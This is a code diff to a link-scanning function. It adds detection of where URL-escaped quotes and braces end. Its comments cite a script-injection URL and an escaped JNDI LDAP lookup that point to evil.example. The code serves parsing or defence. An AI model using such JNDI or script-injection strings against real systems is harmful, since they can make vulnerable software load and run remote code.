@@ -111,6 +111,7 @@ function isLinkText(text: string, at: number): boolean {
 
 /** `%27http://evil.example/a.js%27%3E`: the quote around the URL was escaped with all of its markup. */
 function beforeEscapedQuote(text: string, start: number, from: number, end: number): number {
+  if (codeBefore(text, start - 1) === 58) return beforeEscapedBrace(text, start, from, end);
   if (codeBefore(text, start - 3) !== 37) return end;
   const quote = text.slice(start - 3, start);
   const close = quote === '%27' || quote === '%22' ? text.slice(from, end).indexOf(quote) : -1;
@@ -123,6 +124,19 @@ function withoutSentence(text: string, from: number, end: number): number {
   const dot = dotBeforeSentence(text, from, end);
   if (dot < 0 || !/\/[a-z\d_-]{1,40}$/.test(text.slice(Math.max(from, dot - 42), dot))) return end;
   return isFileEndingAt(text, dot + 1, end) ? end : dot;
+}
+
+/** `%7Bjndi:ldap://evil.example/a%7D`: a look-up whose braces were escaped alone. */
+function beforeEscapedBrace(text: string, start: number, from: number, end: number): number {
+  if (
+    !text
+      .slice(Math.max(0, start - 8), start)
+      .toLowerCase()
+      .startsWith('%7bjndi:')
+  )
+    return end;
+  const close = text.slice(from, end).search(/%7d/i);
+  return close < 0 ? end : from + close;
 }
 
 const LONGEST_WORD = 20;
